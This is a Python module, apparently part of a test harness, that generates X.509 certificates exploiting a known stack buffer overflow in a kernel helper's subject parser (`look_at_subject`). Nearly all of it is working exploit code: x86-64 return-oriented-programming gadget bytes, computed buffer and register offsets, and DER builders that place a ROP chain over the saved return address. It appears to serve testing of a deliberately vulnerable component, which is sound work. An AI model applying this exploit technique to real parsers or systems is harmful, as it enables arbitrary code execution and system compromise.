# SPDX-License-Identifier: GPL-2.0-only
"""Certificates that take over a parser whose bug is known: a subject too long for its buffer.

The subject overwrites the address to which a function returns (`look_at_subject` of
overlay/tools/umd/kernel/x509_fields.c). Pages of data are not executable. So the overflow writes
the addresses of existing code (return-oriented programming).
"""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from harness.guests.der import der

if TYPE_CHECKING:
    from collections.abc import Iterable

POP_RDI, POP_RSI, POP_RSP = b"\x5f\xc3", b"\x5e\xc3", b"\x5c\xc3"
"""x86-64 code that takes a register from the stack, and returns."""
RET = b"\xc3"
"""x86-64 code that returns."""
SYSCALL = bytes.fromhex("0f05483d01f0ffff")
"""x86-64 code of a system call, and of the look at its result in a C library that then returns."""

LONGEST = 2044
"""The bytes that a handler takes (WITNESS_INPUT_SIZE, overlay/kernel/umd_witness/message.h)."""
_ROOM = 256
"""Bytes of the buffer."""
_REGISTERS = 64
"""Bytes from the buffer's end to the return address and beyond it: what a function saves."""
_HEADERS = 17
"""Bytes of a subject before its text."""
_PAD = -_HEADERS % 8
_ROW = (_ROOM + _REGISTERS - _HEADERS - _PAD) // 8

_DESCRIPTION = bytes.fromhex("060355040d")
_RSA = bytes.fromhex("300d06092a864886f70d0101010500")
_SHA256_WITH_RSA = bytes.fromhex("300d06092a864886f70d01010b0500")
_YEARS = b"200101000000Z", b"400101000000Z"


def words(values: Iterable[int]) -> bytes:
    """Return 64-bit words as they lie in memory."""
    return b"".join(struct.pack("<Q", value) for value in values)


def overflow(ret: int, stack: Iterable[int], brought: bytes) -> bytes:
    """Return a certificate that makes the parser return to the first address of `stack`.

    `ret` is the address of code that only returns. A row of it covers the places where the return
    address may be. What is `brought`, at least 256 bytes, lies where the issuer's name would be.
    """
    row = bytes(_PAD) + words([ret] * _ROW)
    made = _certificate(brought, row + words(stack))
    if len(made) > LONGEST:
        raise ValueError(f"the handler takes no certificate of {len(made)} bytes")
    return made


def place_of_brought() -> int:
    """Return the offset of what is brought."""
    text = bytes([0xFF]) * 256
    return _certificate(text, text).index(text)


def _certificate(issuer: bytes, subject: bytes) -> bytes:
    """Return a certificate whose names are descriptions with these bytes."""
    names = [
        der(0x30, der(0x31, der(0x30, _DESCRIPTION + der(0x0C, text))))
        for text in (issuer, subject)
    ]
    times = der(0x30, b"".join(der(0x17, time) for time in _YEARS))
    key = der(0x30, _RSA + der(0x03, bytes(17)))
    parts = (der(0x02, b"\1"), _SHA256_WITH_RSA, names[0], times, names[1], key)
    signed = der(0x30, b"".join(parts))
    return der(0x30, signed + _SHA256_WITH_RSA + der(0x03, bytes(17)))
